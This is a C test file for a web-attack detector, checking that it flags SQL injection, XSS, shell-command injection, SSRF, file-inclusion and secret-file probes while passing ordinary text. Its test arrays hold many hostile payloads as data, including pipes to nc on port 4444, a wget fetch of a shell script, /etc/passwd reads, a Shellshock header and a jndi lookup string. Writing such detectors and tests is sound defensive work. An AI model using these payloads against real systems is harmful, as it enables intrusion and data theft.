#include "normalise.h"
#include "webbody.h"
#include "webstruct.h"

#include <criterion/criterion.h>
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static fk_webstruct *ws;

static void setup(void)
{
    fk_err err;
    cr_assert_eq(fk_webstruct_new(&ws, &err), 0, "%s", err.msg);
}

static void teardown(void)
{
    fk_webstruct_free(ws);
}

TestSuite(webstruct, .init = setup, .fini = teardown);

static bool sqli(const char *v, fk_webstruct_field f)
{
    const char *why = NULL;
    return fk_webstruct_sqli(ws, v, strlen(v), f, &why);
}

static bool xss(const char *v, fk_webstruct_field f)
{
    const char *why = NULL;
    return fk_webstruct_xss(v, strlen(v), f, &why);
}

static bool shell(const char *v, fk_webstruct_field f)
{
    const char *why = NULL;
    return fk_webstruct_shell(ws, v, strlen(v), f, &why);
}

/* Every value of a list must be read as an attack (want), or every one not. */
static void expect_reads(bool (*reader)(const char *, fk_webstruct_field), fk_webstruct_field f,
                         const char *const *values, size_t n, bool want)
{
    for (size_t i = 0; i < n; i++)
        cr_assert_eq(reader(values[i], f), want, "%s: %s", want ? "missed" : "false alarm",
                     values[i]);
}
#define EXPECT_READS(reader, f, list, want)                                                        \
    expect_reads(reader, f, list, sizeof list / sizeof list[0], want)

/* Every value of a list passes a test of how a value is read (want), or none does. */
static void expect_test(bool (*test)(const char *, size_t), const char *const *values, size_t n,
                        bool want)
{
    for (size_t i = 0; i < n; i++)
        cr_assert_eq(test(values[i], strlen(values[i])), want, "%s: %s", want ? "not" : "also",
                     values[i]);
}
#define EXPECT_TEST(test, list, want) expect_test(test, list, sizeof list / sizeof list[0], want)

/* Free text (a search, a comment) is read as a string the application keeps: a command
 * line or SQL words are what people type there; only breaking out of the string, or a
 * separator, a substitution or a program's path, says more. */
Test(webstruct, free_text_needs_a_break_out)
{
    static const char *const typed[] = {"sudo apt update", "rm -rf node_modules", "netstat -an",
                                        "powershell get-childitem", "grep -r"};
    EXPECT_READS(shell, FK_WS_TEXT, typed, false);
    EXPECT_READS(shell, FK_WS_PARAM, typed, true);
    static const char *const commands[] = {"x; cat /etc/passwd", "`id`",
                                           "$(whoami)",          "a | nc 203.0.113.5 4444",
                                           "/bin/sh -c id",      "get-childitem -path c:\\"};
    EXPECT_READS(shell, FK_WS_TEXT, commands, true);
    static const char *const words[] = {"drop table if exists", "select count from users group by",
                                        "5 union all select password, 2 from accounts"};
    EXPECT_READS(sqli, FK_WS_TEXT, words, false);
    /* SELECT straight after AND or OR is prose (no dialect parses it without a
     * parenthesis), wherever it is written */
    static const char *const prose[] = {"i'd like to order by price, and select the cheapest"};
    EXPECT_READS(sqli, FK_WS_TEXT, prose, false);
    EXPECT_READS(sqli, FK_WS_PARAM, prose, false);
    EXPECT_READS(sqli, FK_WS_PARAM, words, true);
    static const char *const sql[] = {"1' or '7'='7", "x\" or 2>1 -- ",
                                      "1 waitfor delay '0:0:15' --", "abc'); drop table orders; --",
                                      "5 union all select password, 2 from accounts--"};
    EXPECT_READS(sqli, FK_WS_TEXT, sql, true);
    cr_assert(fk_webstruct_text_breaks("/etc/passwd", 11) & FK_WS_BREAK_PATH);
    cr_assert(fk_webstruct_text_breaks(" '../../etc/shadow", 18) & FK_WS_BREAK_PATH);
    cr_assert(fk_webstruct_text_breaks("c:\\boot.ini", 11) & FK_WS_BREAK_PATH);
    cr_assert(fk_webstruct_text_breaks("file:///etc/hosts", 17) & FK_WS_BREAK_PATH);
    cr_assert_not(fk_webstruct_text_breaks("cat /proc/cpuinfo meaning", 25) & FK_WS_BREAK_PATH);
    cr_assert_not(fk_webstruct_text_breaks("re: meeting", 11) & FK_WS_BREAK_PATH);
    cr_assert_eq(fk_webstruct_param_field("q", 1), FK_WS_TEXT);
    cr_assert_eq(fk_webstruct_param_field(FK_WEBBODY_FILE_TEXT, strlen(FK_WEBBODY_FILE_TEXT)),
                 FK_WS_TEXT);
    cr_assert_eq(fk_webstruct_param_field("comment", 7), FK_WS_TEXT);
    cr_assert_eq(fk_webstruct_param_field("id", 2), FK_WS_PARAM);
    cr_assert_eq(fk_webstruct_param_field("p", 1), FK_WS_PARAM);
    cr_assert_eq(fk_webstruct_param_field("details", 7), FK_WS_TEXT);
    /* compounds written together end in a free-text word of four letters or more, not
     * one that ends other words by chance */
    cr_assert_eq(fk_webstruct_param_field("usercomment", 11), FK_WS_TEXT);
    cr_assert_eq(fk_webstruct_param_field("emailsubject", 12), FK_WS_TEXT);
    cr_assert_eq(fk_webstruct_param_field("quickreply", 10), FK_WS_TEXT);
    cr_assert_eq(fk_webstruct_param_field("search_term", 11), FK_WS_TEXT);
    cr_assert_eq(fk_webstruct_param_field("newpassword", 11), FK_WS_PARAM);
    cr_assert_eq(fk_webstruct_param_field("productdetails", 14), FK_WS_PARAM);
    cr_assert_eq(fk_webstruct_param_field("context", 7), FK_WS_PARAM);
    cr_assert_eq(fk_webstruct_param_field("cachebust", 9), FK_WS_PARAM);
    /* a report quotes the command line an attacker ran; at the head it is one */
    static const char *const quoted[] = {
        "a user opened the attachment and the macro ran `powershell -enc jabzad0a...`.",
        "we saw powershell -nop -w hidden in the event log of two hosts"};
    EXPECT_READS(shell, FK_WS_TEXT, quoted, false);
    static const char *const run[] = {"powershell -enc jabzad0a", "x; powershell -nop -w hidden"};
    EXPECT_READS(shell, FK_WS_TEXT, run, true);
    EXPECT_READS(shell, FK_WS_PARAM, quoted, true);
}

/* Every value of a list has one of the breaks of mask (want), or none of them. */
static void expect_breaks(const char *const *values, size_t n, unsigned mask, bool want)
{
    for (size_t i = 0; i < n; i++)
        cr_assert_eq((fk_webstruct_text_breaks(values[i], strlen(values[i])) & mask) != 0, want,
                     "%s", values[i]);
}
#define EXPECT_BREAKS(list, mask, want)                                                            \
    expect_breaks(list, sizeof list / sizeof list[0], mask, want)

/* In what people write, a break after words (a separator, a line break, a comment) is
 * part of the writing; an injection puts it at the head, after the one argument the
 * application expected, or ends the value with a comment. */
Test(webstruct, free_text_breaks_only_at_its_head)
{
    static const char *const prose[] = {
        "Great article. I use sudo apt update && apt upgrade every week too.",
        "Our script runs every night; can the report include yesterday's rows? | grep -v x",
        "See https://example.org/docs?page=2&lang=en for the details; cat notes.txt",
        "\xe3\x81\x8a\xe5\x95\x8f\xe3\x81\x84 \xe5\x90\x88\r\nsudo apt update && apt upgrade",
        "The printer on the 3rd floor says 'paper jam' again :(\nrm -rf build",
        "I ran `npm ci && npm run build` and it still picks up the old lockfile.",
        "The cron line is 0 3 * * * /usr/local/bin/backup.sh > /dev/null 2>&1",
        "hello world; id",
        "Try git fetch --all; git reset --hard origin/main",
        "```sh\n$ make clean && make -j4\n```\nThanks, that fixed it!"};
    EXPECT_READS(shell, FK_WS_TEXT, prose, false);
    EXPECT_BREAKS(prose, FK_WS_BREAK_SHELL | FK_WS_BREAK_STATEMENT, false);
    static const char *const injected[] = {
        "127.0.0.1 && cat /etc/passwd",
        "report.pdf; rm -rf /var/www",
        "x|nc 203.0.113.5 4444",
        "$(whoami)",
        "https://example.org/?a=1&b=2;wget http://203.0.113.5/x.sh",
        "\ncat /etc/passwd;"};
    EXPECT_READS(shell, FK_WS_TEXT, injected, true);
    EXPECT_BREAKS(injected, FK_WS_BREAK_SHELL, true);
    /* a quoted separator in a sentence; a statement after a broken-out string */
    cr_assert(!sqli("handle ';' in csv fields when importing", FK_WS_PARAM));
    cr_assert(sqli("a'; drop table users", FK_WS_PARAM));
    cr_assert(sqli("a'; waitfor delay '0:0:5'", FK_WS_PARAM));
    static const char *const ended[] = {"1; drop table t", "1 waitfor delay '0:0:5'--",
                                        "1) or sleep(5)#", "1 and 1=1 -- -"};
    EXPECT_BREAKS(ended, FK_WS_BREAK_STATEMENT, true);
}

Test(webstruct, sql_shapes_in_each_quoting_context)
{
    static const char *const attacks[] = {
        "1' or '7'='7",
        "x\" or 2>1 -- ",
        "10 and 5=5",
        "5 union all select password, 2 from accounts",
        "abc'); drop table orders; --",
        "7 and benchmark(1000000,md5(1))",
        "x' and extractvalue(3,concat(0x3a,version())) and 'a'='a",
        "1;waitfor delay '0:0:9'",
        "' having 1=1 --",
        "9 order by 12",
        "name' --",
        "x' or glob(id,id);",
        "1) like (1",
        "x' or like(name,'a%')--",
        "(select top 1 name from sysobjects)",
        "1 and 1=(select count(*) from information_schema.tables)",
        /* Db2's catalogue schemas, any table under them in a table's place */
        "select user from sysibm.sysdummy1;",
        "select current server from sysibm.sysdummy1",
        "x' union select tabname from syscat.tables--",
        "id::text",
        "@@hostname",
        "_latin1'a'",
        "_utf8mb4\"x\"",
    };
    EXPECT_READS(sqli, FK_WS_PARAM, attacks, true);
    static const char *const benign[] = {
        "o'reilly and sons",
        "rock and roll",
        "union station tickets",
        "select your plan from the list below",
        "the sysibm.systables view",
        "select user from users",
        "waitfor delay meaning",
        "case when excel",
        "it's a 1=1 tie",
        "price 5 or more",
        "don't drop the ball",
        "it's like (really) good",
        "tom & jerry",
        "c++ vector sort",
        "dual sim phone",
        "a-b-c",
        /* file names cut before an HTML-escaped quote: no character set is named */
        "/23/25822676_789bf55448_t.jpg\"",
        "/news/openoffice_2.0.1_released\">",
    };
    EXPECT_READS(sqli, FK_WS_PARAM, benign, false);
}

/* Sentences a person wrote are free text whatever the parameter is called (a status, a
 * note): eight words, three of English's function words and a sentence's end, or a run
 * of a script written without blanks. Payloads built of keywords, operators and names
 * are none of that. */
Test(webstruct, sentences_are_prose_whatever_the_name)
{
    static const char *const prose[] = {
        "could you share the output of `uname -a` and `docker version`? #linux",
        "we should drop the old table after the migration, it is not used any more.",
        "thanks, that fixed it! i will close the ticket when the release is out.",
        "\xe4\xbc\x9a\xe8\xad\xb0\xe3\x81\xae\xe8\xb3\x87\xe6\x96\x99\xe3\x82\x92"
        "\xe9\x80\x81\xe3\x81\xa3\xe3\x81\xa6\xe3\x81\x8f\xe3\x81\xa0\xe3\x81\x95"
        "\xe3\x81\x84\xe3\x80\x82\xe3\x82\x88\xe3\x82\x8d\xe3\x81\x97\xe3\x81\x8f"
        "\xe3\x81\x8a\xe9\xa1\x98\xe3\x81\x84\xe3\x81\x97\xe3\x81\xbe\xe3\x81\x99",
    };
    EXPECT_TEST(fk_webstruct_reads_as_prose, prose, true);
    static const char *const payloads[] = {
        "1 union select username, password from users where 1=1",
        "1 union select username, password from users where active is not null.",
        "x; cat /etc/passwd; echo the end of the file.",
        "if exist data.xls echo the file was found.",
        "' or 1=1 -- and the rest of it",
        "1\nunion\nselect\npassword\nfrom\nusers\nwhere\n1=1",
        "a b c d e f g h.",
    };
    EXPECT_TEST(fk_webstruct_reads_as_prose, payloads, false);
    /* a rich-text editor's markup: its text is free text, its markup still read for script */
    static const char *const markup[] = {
        "<p>the <code>select</code> element and <a href=\"../docs/forms.html\">forms</a></p>",
        "<!-- wp:paragraph -->\n<p>closed on friday</p>\n<!-- /wp:paragraph -->",
        "<div dir=\"ltr\">thanks,<br><br>see you at 3.</div>",
        /* a wiki page's source: a heading line, a table, a link */
        "== Installation ==\non [[Debian]] run <code>apt install example</code>",
        "{| class=\"wikitable\"\n|-\n| 1.0 || 2019-03-01 || first release\n|}",
        "[[File:Map.png|thumb]] Kobe Station\nis a station."};
    EXPECT_TEST(fk_webstruct_editor_markup, markup, true);
    static const char *const injected[] = {"<img src=x onerror=alert(1)>",
                                           "<script>alert(1)</script>",
                                           "<p onclick=x>",
                                           "1' union select <p>1</p>",
                                           "<svg/onload=alert(1)>",
                                           "{{7*7}}\n{{config}}",
                                           "== x",
                                           "[[x\n]]"};
    EXPECT_TEST(fk_webstruct_editor_markup, injected, false);
    /* a wiki table's rows are no pipes, a code span the sentence goes on after no
     * substitution; a one-word span, or one at the end, still is */
    static const char *const quoted[] = {
        "{| class=\"wikitable\"\n|-\n| 1.0 || 2019-03-01 || first release\n|}",
        "try `git fetch --all; git reset --hard origin/main` if you have no local changes."};
    EXPECT_READS(shell, FK_WS_TEXT, quoted, false);
    static const char *const substituted[] = {"x`id`", "x`id` please", "x `cat /etc/passwd`"};
    EXPECT_READS(shell, FK_WS_TEXT, substituted, true);

    cr_assert(xss("<p>hello</p><a href=\"javascript:alert(1)\">x</a>", FK_WS_TEXT));
}

/* A query language's own expression in a parameter (Jira's JQL, Confluence's CQL,
 * OData's $filter) opens with a name compared to something and quotes its own strings:
 * its AND and its quotes are not an injection's, which appends a condition to the value
 * the application expected or ends its string. Injections still found beside them. */
Test(webstruct, a_query_languages_expression_is_no_injection)
{
    static const char *const expressions[] = {
        "labels = phishing and created >= -7d",
        "project = soc and status in (\"in progress\", open) order by priority desc",
        "assignee = currentuser() and resolution = unresolved order by updated desc",
        "name eq 'tokyo' and population gt 1000000",
        "space = sec and text ~ \"phishing\" order by lastmodified desc",
        "(ti = \"battery\" or ab = \"battery\") and pd >= 20200101",
    };
    EXPECT_READS(sqli, FK_WS_PARAM, expressions, false);
    static const char *const injections[] =
        {
            "1 and 1=1",     "x' and 'a'='a",    "('x') or ('1'='1')", "1' order by 3--",
            "10 or 2>1",     "admin' or 1=1 --", "' or ''='",          "x\" or \"a\"=\"a",
            "(a=1) or (1=1", /* a group left open: the rest of the application's query closes it */
        };
    EXPECT_READS(sqli, FK_WS_PARAM, injections, true);
    /* the same for a shell: a LogQL query's strings hold patterns, not pipes */
    static const char *const logql[] = {
        "{app=\"auth\"} |~ \"failed (password|login)\" | logfmt | line_format \"{{.user}}\"",
        "{job=\"nginx\"} |= \"error\" | json | status >= 500"};
    EXPECT_READS(shell, FK_WS_PARAM, logql, false);
    static const char *const commands[] = {"x=\"$(id)\"", "b=\"c\"; cat /etc/passwd", "\"x\"|id",
                                           "a | login"};
    EXPECT_READS(shell, FK_WS_PARAM, commands, true);
    static const char *const opens[] = {"status='open' and type=2",
                                        "objectid > 0 and 1=1",
                                        "name eq 'x'",
                                        "labels in (a, b)",
                                        "text ~ \"reset\"",
                                        "$filter != 3",
                                        "(status='open' or status='new') and prio>2"};
    EXPECT_TEST(fk_webstruct_opens_as_expression, opens, true);
    static const char *const values[] = {"1 and 1=1",        "x' or 'a'='a", "admin",
                                         "o'brien and sons", "1=1",          "union select 1",
                                         "(a=1)) or ((1=1"};
    EXPECT_TEST(fk_webstruct_opens_as_expression, values, false);
}

/* Words joined by pipes are a pattern's alternation or a list (a dashboard's
 * var-job=api|worker, a log filter's error|warn): a pipe there runs only a command that
 * tells the attacker where he is. A word too long for any command's name (a mailbox
 * item's base64 id) names none, however its first bytes end. */
Test(webstruct, alternations_and_long_words_are_no_command_lines)
{
    static const char *const quiet[] = {
        "api|worker", "error|warn|crit", "node_exporter|blackbox.*",
        "RgAAAAR6gqhsE2VOVhobdWDdJcN0ogCVSU94PXfdI6ZTYKtERhqypfXW5VOW/Trvq3IUQOJ7kx9J3rEV2swmpt"};
    EXPECT_READS(shell, FK_WS_PARAM, quiet, false);
    static const char *const commands[] = {"api|id", "x|whoami", "a | worker", "x=$(worker)",
                                           "$a cat /etc/passwd"};
    EXPECT_READS(shell, FK_WS_PARAM, commands, true);
}

/* A value that lands inside a script block or handler unquoted is itself the script:
 * what no sentence, setting or search writes counts (values arrive lower-cased). */
Test(webstruct, a_value_that_is_itself_a_script)
{
    static const char *const attacks[] = {
        "alert(1)",
        "prompt(document.domain);//",
        "confirm('x')",
        "(alert)(1)",
        "[1].find(alert)",
        "a=alert,a(1)",
        "eval(location.hash.slice(1))",
        "eval(url.slice(-8))",
        "x.innerhtml=location.hash",
        "document.write(document.referrer)",
        "settimeout(window.name)",
        "onerror=alert;throw 1",
        "window.onerror=eval;throw'=alert\\x281\\x29'",
        "settimeout('alert(1)')",
        "\274script\276alert(1)\274/script\276", /* octal escapes: no hex run-on */
    };
    EXPECT_READS(xss, FK_WS_PARAM, attacks, true);
    static const char *const benign[] = {
        "red alert (1)",
        "alert(s) settings",
        "confirm(yes)",
        "level=alert,warning",
        "severity=alert;notice",
        "(alert)",
        "function(location) {}",
        "the location of eval",
        "eval(input)",
        "set alert=on, then alert me",
        "onerror=alert",
        "settimeout(f, 100)",
        "document.write('<b>(x)</b>')",
        "\xbcscript",             /* no closing byte */
        "men\303\274script \276", /* UTF-8's u-umlaut ends in 0xbc */
    };
    EXPECT_READS(xss, FK_WS_PARAM, benign, false);
}

Test(webstruct, markup_and_script_breakouts)
{
    static const char *const attacks[] = {
        "<script>x()</script>",
        "<img src=1 onerror=go()>",
        "<svg/onload=x>",
        "\" onfocus=\"x()\" autofocus=\"",
        "<a href=\"java\tscript:x()\">",
        "javascript:void(0)",
        "';alert(document.domain)//",
        "\"-prompt(1)-\"",
        "<iframe src=//example.org>",
        "${alert(1)}",
        "{{constructor.constructor('x')()}}",
        "<div style=\"width:expression(x())\">",
    };
    EXPECT_READS(xss, FK_WS_PARAM, attacks, true);
    static const char *const benign[] = {
        "<b>bold</b> text",
        "a < b and c > d",
        "it's \"quoted\" - ok",
        "mailto:user@example.jp",
        "https://www.example.jp/?a=1",
        "<?xml version=\"1.0\"?>",
        "3 < 4",
        "price: $5 {sale}",
    };
    EXPECT_READS(xss, FK_WS_PARAM, benign, false);
}

Test(webstruct, shell_commands_by_grammar_and_by_name)
{
    static const char *const attacks[] = {
        "127.0.0.1; uname -a",
        "x|nc 192.0.2.1 4444",
        "a && curl http://example.org/x",
        "$(id)",
        "`whoami`",
        "1;id",
        "x; /usr/bin/env",
        "w'h'o'am'i; cat /etc/hostname",
        "a;c\\at /etc/issue",
        "ti''me sleep 5",
        "$((1+1))",
        "${path:0:1}",
        "/us[r]/bi[n]/id",
        "x & ipconfig /all",
        "for /f %i in ('ver') do echo %i",
        "a\nrcpt to:<x@example.org>",
        "x\r\na001 authenticate plain\r\n",
        "x\r\na001 status inbox (messages)",
        "x\na7 logout",
        "x\n id \n", /* blanks before the line's end change nothing */
        "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
        "<!--# exec cgi=\"/cgi-bin/x.cgi\" -->",
    };
    EXPECT_READS(shell, FK_WS_PARAM, attacks, true);
    static const char *const benign[] = {
        "php;ruby",
        "cat food grain free",
        "linux ls command options",
        "red;$5 each",
        "/etc/passwd file format",
        "time to go",
        "tom & jerry",
        "1/[a-z]{1,5}/",
        "sort=name;desc",
        /* a word quoted whole is a string, an exact-phrase search: not a disguise */
        "\"python\"",
        "'git'",
        "\"docker\" tutorial",
        "'hello' or 'world'",
        /* IMAP's command words in prose and numbered lists: no tag of letters and digits */
        "hello\r\nplease create an account",
        "steps:\n1 create a file\n2 delete it",
        "id card",
        "<!--#exec-->",
    };
    EXPECT_READS(shell, FK_WS_PARAM, benign, false);
    /* headers: a browser's comment lists locales and CPUs after ';' */
    static const char *const agents[] = {
        "mozilla/5.0 (x11; u; linux arm; id) applewebkit/534.30",
        "opera/9.80 (android; opera mini/7.5; u; id) presto/2.8.119",
        "mozilla/5.0 (windows nt 6.2; arm; trident/7.0; touch; rv:11.0)",
    };
    EXPECT_READS(shell, FK_WS_HEADER, agents, false);
    cr_assert(shell("() { :; }; /bin/cat /etc/hostname", FK_WS_HEADER));
    cr_assert(shell("x; wget http://example.org/a -o /tmp/a", FK_WS_HEADER));
    cr_assert(shell(";env", FK_WS_HEADER), "a header that starts with an operator");
    /* a path starts with a slash, not with a command */
    cr_assert_not(shell("/test", FK_WS_PATH));
    cr_assert_not(shell("/login", FK_WS_PATH));
}

static int count_hits(void *ctx, const fk_webstruct_hit *h)
{
    int *n = ctx;
    (*n)++;
    cr_assert_not_null(h->why);
    return 0;
}

Test(webstruct, scan_reports_one_hit_per_reader)
{
    int n = 0;
    const char *v = "1' union select 1,2 from users; cat /etc/hostname --";
    cr_assert_eq(fk_webstruct_scan(ws, v, strlen(v), FK_WS_PARAM, count_hits, &n), 3);
    cr_assert_eq(n, 3, "sqli, rce and the system file");
}

/* A value may carry a NUL byte (a decoded %00). A word that runs past it must not be
 * taken for a shorter list entry, nor read the entry beyond its end (the fuzzer found
 * this; the ASan build of this test reads out of bounds without the bounded compare). */
Test(webstruct, words_with_a_nul_byte_are_not_shorter_entries)
{
    static const char v1[] = "1;id\0x";
    static const char v2[] = "x|uname\0zz -a";
    static const char v3[] = "<svg onload=alert\0zz(1)>";
    const char *why = NULL;
    cr_assert_not(fk_webstruct_shell(ws, v1, sizeof v1 - 1, FK_WS_PARAM, &why),
                  "id followed by a NUL and more letters is not the command id");
    fk_webstruct_shell(ws, v2, sizeof v2 - 1, FK_WS_PARAM, &why);
    fk_webstruct_xss(v3, sizeof v3 - 1, FK_WS_PARAM, &why);
    /* a path component is compared with the secret file names whole */
    static const char v4[] = "/site/id_rsa\0zzzzzzzzzzzz/x";
    int n = 0;
    fk_webstruct_scan(ws, v4, sizeof v4 - 1, FK_WS_PATH, count_hits, &n);
    cr_assert_eq(n, 0, "id_rsa followed by a NUL and letters is no id_rsa");
}

typedef struct {
    char families[128];
} fams;

static int add_family(void *ctx, const fk_webstruct_hit *h)
{
    fams *f = ctx;
    size_t l = strlen(f->families);
    snprintf(f->families + l, sizeof f->families - l, "%s%s", l ? "," : "", h->family);
    return 0;
}

static const char *families_of(const char *v, fk_webstruct_field field)
{
    static fams f;
    f.families[0] = '\0';
    fk_webstruct_scan(ws, v, strlen(v), field, add_family, &f);
    return f.families;
}

Test(webstruct, code_ssrf_and_files_by_meaning)
{
    static const struct {
        const char *v;
        fk_webstruct_field field;
        const char *families;
    } cases[] = {
        {"<?php echo 1; ?>", FK_WS_PARAM, "code"},
        {"<? should not trigger", FK_WS_PARAM, ""},
        {"x=passthru('ls')", FK_WS_PARAM, "code"},
        {"(\"pass\".\"thru\")('ls')", FK_WS_PARAM, "code"},
        {"$_cookie['a']", FK_WS_PARAM, "code"},
        {"$http_get_vars['x']", FK_WS_PARAM, "code"},
        {"print $argv[1]", FK_WS_PARAM, "code"},
        {"$argvalue", FK_WS_PARAM, ""},
        {" ?><b>hi</b>", FK_WS_PARAM, "code"},
        {"?>", FK_WS_PARAM, "code"},
        {"what?>no", FK_WS_PARAM, ""},
        {"my.file(2)", FK_WS_PARAM, ""},
        {"copy (2) of report", FK_WS_PARAM, ""},
        {"a[__proto__][admin]=1", FK_WS_PARAM, "code"},
        {"${jndi:ldap://example.org/a}", FK_WS_HEADER, "code"},
        {"http://2130706433/admin", FK_WS_PARAM, "ssrf,rfi"}, /* as 127.0.0.1 spelt so */
        {"http://0xcb007109/x.php", FK_WS_PARAM, "rfi"},
        {"http://user@[2001:db8::7]/x.txt", FK_WS_PARAM, "rfi"},
        {"http://1e100.example/x", FK_WS_PARAM, ""},
        {"http://0x7f.1:8080/", FK_WS_PARAM, "ssrf"},
        {"http://[::ffff:169.254.169.254]/latest", FK_WS_PARAM, "ssrf,rfi"},
        {"lvh.me/", FK_WS_PARAM, "ssrf"},
        {"https://www.example.jp/a", FK_WS_PARAM, ""},
        {"192.168.1.10", FK_WS_PARAM, ""},
        {"../../etc/shadow", FK_WS_PARAM, "lfi"},
        {"/.git/config", FK_WS_PATH, "sensitive"},
        {"/wp-config.php.bak", FK_WS_PATH, "sensitive"},
        {"/home/", FK_WS_PATH, ""},
        {"/img/shadow/top.png", FK_WS_PATH, ""},
        {"/help/credentials/", FK_WS_PATH, ""},
        {"/etc/shadow", FK_WS_PARAM, "lfi"},
        {"/blog/2024/05/credentials-tips", FK_WS_PATH, ""},
        {"passwd", FK_WS_PARAM, ""},
        {"http://evil.example/shell.txt?", FK_WS_PARAM, "rfi"},
        {"http://198.51.100.7/x.php", FK_WS_PARAM, "rfi"},
        {"\\\\198.51.100.7\\share\\x.php", FK_WS_PARAM, "rfi"},
        {"https://www.example.jp/search?q=a", FK_WS_PARAM, ""},
        {"gopher://127.0.0.1:6379/_info", FK_WS_PARAM, "ssrf"},
        /* PHP allows comments between a name and its '(' */
        {"passthru//x\n('id')", FK_WS_PARAM, "rce,code"}, /* id opens a line too */
        {"shell_exec #x\n ('id')", FK_WS_PARAM, "rce,code"},
        {"popen/*a*/ ('id','r')", FK_WS_PARAM, "code"},
        {"(system)('id');", FK_WS_PARAM, "code"},
        {"an operating (system) (linux)", FK_WS_PARAM, ""},
        {"'.system('id').'", FK_WS_PARAM, "code"}, /* concatenation, not a member */
        /* names that resolve to the host or the cluster, schemeless with a path or port */
        {"localhost:8080/admin", FK_WS_PARAM, "ssrf"},
        {"localhost6/", FK_WS_PARAM, "ssrf"},
        {"redis.default.svc.cluster.local:6379", FK_WS_PARAM, "ssrf"},
        {"localhost", FK_WS_PARAM, ""},
        {"http://127.0.0.1.nip.io/", FK_WS_PARAM, "ssrf"},
        {"ro0abxnyabfqyxzhlnv0awwuagfzae1hca", FK_WS_PARAM, "code"},
        {"aced00057372001f", FK_WS_PARAM, "code"},
        /* the stream inside a blob, one and two bytes into a base64 group, URL-safe; in
         * hex after a header. The magic encoded alone (CRS 944210) is no stream. */
        {"b6ztaavzcgaramf2ys51dglslkhhc2hnyxa=", FK_WS_PARAM, "code"},
        {"bwis7qafc3iaewphdmeudxrpbc5iyxnotwfw", FK_WS_PARAM, "code"},
        {"pqztaav-cg==", FK_WS_PARAM, "code"},
        {"0100aced0005737200116a6176612e7574", FK_WS_PARAM, "code"},
        {"kztaau", FK_WS_PARAM, ""},
        {"cs7qaf", FK_WS_PARAM, ""},
        {"b6ztaauzcgaramf2ys51dglslkhhc2hnyxa=", FK_WS_PARAM, ""},
        {"roadmap2024", FK_WS_PARAM, ""},
        {"unix:aaaa|http://backend/", FK_WS_PARAM, "ssrf"},
        {"http://8.8.8.8.nip.io/", FK_WS_PARAM, ""},
        {"php://filter/resource=index.php", FK_WS_PARAM, "code,lfi"},
        {"data:text/plain,hi", FK_WS_PARAM, "ssrf"},
        {"data:,x", FK_WS_PARAM, "ssrf"},
        {"data: none", FK_WS_PARAM, ""},
        {"a[constructor][prototype][isadmin]", FK_WS_PARAM, "code"},
        /* files by what they are */
        {"/.cursorignore", FK_WS_PATH, "sensitive"},
        /* a dot-file's name says settings or secrets; others are pages' names */
        {"/.ftpconfig", FK_WS_PATH, "sensitive"},
        {"/deploy/.s3cfg", FK_WS_PATH, "sensitive"},
        {"/x/.eslintrc", FK_WS_PATH, "sensitive"},
        {"/.sftp-config.json", FK_WS_PATH, "sensitive"},
        {"/.env.production", FK_WS_PATH, "sensitive"},
        {"/.rediscli_history", FK_WS_PATH, "sensitive"},
        {"/wiki/.de", FK_WS_PATH, ""},
        {"/wiki/.gc.ca", FK_WS_PATH, ""},
        {"/wiki/.properties", FK_WS_PATH, ""},
        {"/title/.SRCINFO", FK_WS_PATH, ""},
        {"/b/c/.g", FK_WS_PATH, ""},
        {"/pool/main/x/x/x_0.3.orig.tar.xz", FK_WS_PATH, ""},
        {"/backup/site.orig.tar.gz", FK_WS_PATH, "sensitive"},
        {"/index.orig", FK_WS_PATH, "sensitive"},
        {"/.auth/me", FK_WS_PATH, ""},
        {"/.well-known/security.txt", FK_WS_PATH, ""},
        {"/backup/site.sql.gz", FK_WS_PATH, "sensitive"},
        {"/downloads/manual.zip", FK_WS_PATH, ""},
        {"/keys/server.key", FK_WS_PATH, "sensitive"},
        {"/index.bak", FK_WS_PATH, "sensitive"},
        {"/docs/readme.txt", FK_WS_PATH, ""},
        /* Windows Setup's answer files hold administrators' passwords (Microsoft's
         * documentation); the folders Windows keeps on every volume */
        {"c:/unattend.xml", FK_WS_PARAM, "lfi"},
        {"c:/sysprep/sysprep.inf", FK_WS_PARAM, "lfi"},
        {"/autounattend.xml", FK_WS_PATH, "sensitive"},
        {"c:/system volume information/wpsettings.dat", FK_WS_PARAM, "lfi"},
        /* a drive entry stands for every drive */
        {"e:/system volume information/wpsettings.dat", FK_WS_PARAM, "lfi"},
        {"d:\\windows\\win.ini", FK_WS_PARAM, "lfi"},
        {"d:/projects/report.docx", FK_WS_PARAM, ""},
        {"/docs/windows/unattend-xml-reference", FK_WS_PATH, ""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        cr_assert_str_eq(families_of(cases[i].v, cases[i].field), cases[i].families, "%s",
                         cases[i].v);
}

/* Where a URL's host is depends on the parser: RFC 3986 takes the authority to the
 * first '/', '?' or '#' and the host after the last '@'; the WHATWG URL standard ends
 * the authority at '\\' too. Both readings are checked. A host in compatibility
 * characters is the ASCII one once IDNA (UTS #46) has mapped it. */
Test(webstruct, ssrf_host_as_every_parser_reads_it)
{
    static const struct {
        const char *v;
        const char *families;
    } cases[] = {
        {"http://127.0.0.1\\@example.com/", "ssrf"}, /* WHATWG: 127.0.0.1 */
        {"http://example.com\\@127.0.0.1/", "ssrf"}, /* RFC 3986: 127.0.0.1 */
        {"http://a@b@127.0.0.1/", "ssrf"},
        {"http://127.1.1.1:80\\@x@127.2.2.2:80/", "ssrf"},
        {"http://user:p@ss@example.com/", ""},
        {"http://www.example.com/a\\b@127.0.0.1", ""},               /* in the path: no host */
        {"http://\u2460\u2461\u2466.\u24ea.\u24ea.\u24ea/", "ssrf"}, /* circled 127.0.0.0 */
        {"http://\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54/", "ssrf"},
        {"http://\uff11\uff10\u3002\uff10.0.1/", "ssrf"}, /* 10.0.0.1, ideographic stop */
        {"http://example.com/\u6771\u4eac", ""},
        {"https://ja.wikipedia.org/wiki/\u6771\u4eac\u90fd", ""},
        /* a wildcard DNS name with the internal address anywhere in it */
        {"http://customer1.app.127.0.0.1.nip.io/", "ssrf"},
        {"http://app.10.0.0.5.sslip.io:8080/", "ssrf"},
        {"http://app.8.8.8.8.nip.io/", ""},
        {"http://v1.2.3.4.example.com/", ""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        const char *got = families_of(cases[i].v, FK_WS_PARAM);
        cr_assert_str_eq(got, cases[i].families, "%s: %s", cases[i].v, got);
    }
}

